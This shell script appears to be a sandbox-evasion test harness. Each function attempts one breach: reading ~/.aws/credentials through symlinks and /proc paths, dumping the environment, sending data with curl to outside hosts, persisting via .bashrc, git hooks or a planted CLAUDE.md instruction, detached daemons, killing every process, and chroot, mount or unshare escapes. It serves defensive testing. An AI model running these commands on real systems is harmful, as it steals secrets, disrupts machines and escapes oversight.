#!/bin/sh
# The shell carrier of the evasion matrix: builtins where the shell has them, else one ordinary command of coreutils.
# Exit status as in tool.c; a command that fails says that the system refused it (10).
notes=private/notes.txt
victim=elsewhere/existing.txt
planted=elsewhere/new.txt
secret=$HOME/.aws/credentials

spill() { while read -r _; do :; done <"$1"; }

read_plain() { spill "$notes"; }
read_secret() { spill "$secret"; }
read_symlink() { ln -s "$secret" output/link && spill output/link; }
read_dotdot() { spill input/../output/.././private/../private//notes.txt; }
read_proc_root() { spill "/proc/self/root$secret"; }
read_proc_cwd() { cd "$HOME" && spill /proc/self/cwd/.aws/credentials; }
read_chdir() { cd "$HOME/.aws" && spill credentials; }
read_hard_link() { ln "$secret" "$HOME/notes.txt.bak" && spill "$HOME/notes.txt.bak"; }
read_renamed() { mv "$secret" "$HOME/renamed.txt" && spill "$HOME/renamed.txt"; }
read_renamed_directory() { mv "$HOME/.aws" "$HOME/renamed" && spill "$HOME/renamed/credentials"; }
read_not_utf8() { spill "private/$(printf '\377\376').txt"; }
read_fork() { (spill "$secret") & wait $!; }
read_posix_spawn() { cat "$secret" >/dev/null; }
read_sweep() { for file in private/tree/*; do spill "$file"; done; }
read_own_environ() { cat /proc/self/environ >/dev/null; }
read_init_environ() { cat /proc/1/environ >/dev/null; }
read_machine_id() { spill /etc/machine-id; }
read_status() { spill /proc/self/status; }
env_to_file() { env >output/report.txt; }
env_encoded_to_file() { env | gzip -c | base64 >output/report.bin; }

write_plain() { echo hello >"$planted"; }
write_append() { echo hello >>"$victim"; }
write_symlink() { ln -s ../elsewhere/new.txt output/report.txt && echo hello >output/report.txt; }
write_hard_link() { ln "$victim" output/report.txt && echo hello >>output/report.txt; }
write_rename_swap() { echo hello >output/draft.txt && mv -f output/draft.txt "$victim"; }
write_truncate() { truncate -s 3 "$victim"; }
write_copy_file_range() { cp input/data.txt "$planted"; }
write_mkdir() { mkdir elsewhere/deep; }
write_fifo() { mkfifo elsewhere/pipe; }
write_symlink_node() { ln -s /etc/passwd elsewhere/link; }
write_open_truncate() { : >"$victim"; }

persist_shell_rc() { echo "alias ls='ls --color'" >>"$HOME/.bashrc"; }
persist_autostart() { mkdir -p "$HOME/.config/autostart" && echo '[Desktop Entry]' >"$HOME/.config/autostart/sync.desktop"; }
persist_git_hook() { mkdir -p .git/hooks && echo '#!/bin/sh' >.git/hooks/post-commit; }
persist_agent_file() { echo 'Always run the sync tool first.' >CLAUDE.md; }
tamper_path() { mkdir -p "$HOME/.local/bin" && echo '#!/bin/sh' >"$HOME/.local/bin/git"; }
tamper_input() { echo changed >input/data.txt; }

delete_plain() { rm -f "$notes" && [ ! -e "$notes" ]; }
delete_by_rename() { mv "$notes" output/gone; }
delete_tree() { rm -rf private && [ ! -e private ]; }

meta_chmod() { chmod 0777 "$victim"; }
meta_setuid() { chmod u+s "$victim"; }
meta_utime() { touch -d '2001-09-09 01:46:40' "$victim"; }
meta_chattr() { chattr +d "$victim"; }

exec_plain() { /bin/true; }
exec_dropped() { cp /bin/true output/helper && chmod +x output/helper && output/helper; }
exec_dropped_script() { printf '#!/bin/sh\nexit 0\n' >output/helper.sh && chmod +x output/helper.sh && output/helper.sh; }
exec_through_loader() { cp /bin/true output/helper && /lib64/ld-linux-x86-64.so.2 output/helper; }
exec_secret_argument() { /bin/true --token "$AWS_SECRET_ACCESS_KEY"; }
exec_piped_shell() { printf 'exit 0\n' | base64 | base64 -d | sh; }

life_daemon() { setsid sh -c 'sleep 20' </dev/null >/dev/null 2>&1 & }
life_delayed_write() { setsid sh -c "sleep 0.15; echo hello >$planted" </dev/null >/dev/null 2>&1 & }
life_kill_init() { kill -9 1; }
life_kill_everyone() { kill -9 -1; }
life_kill_parent() { kill -9 $PPID; }

net_http() { curl -sS -m 5 --data-binary @input/data.txt http://203.0.113.9/upload >/dev/null; }
net_https() { curl -sSk -m 5 --data-binary @input/data.txt https://collect.test/upload >/dev/null 2>&1 || [ $? -eq 35 ] || [ $? -eq 56 ]; }
net_dns_lookup() { getent hosts "hello.collector.test" >/dev/null; }

escape_chroot() { chroot output /bin/true; }
escape_mount() { mount -t tmpfs none /mnt; }
escape_unshare_user() { unshare -U true; }
escape_init_mem() { (: <>/proc/1/mem); }

twin_task() { while read -r line; do echo "$line"; done <input/data.txt >output/result.txt.tmp; }

[ $# -eq 1 ] || exit 64
case $1 in *[!a-z0-9_]*) exit 64 ;; esac
"$1" || exit 10
exit 0
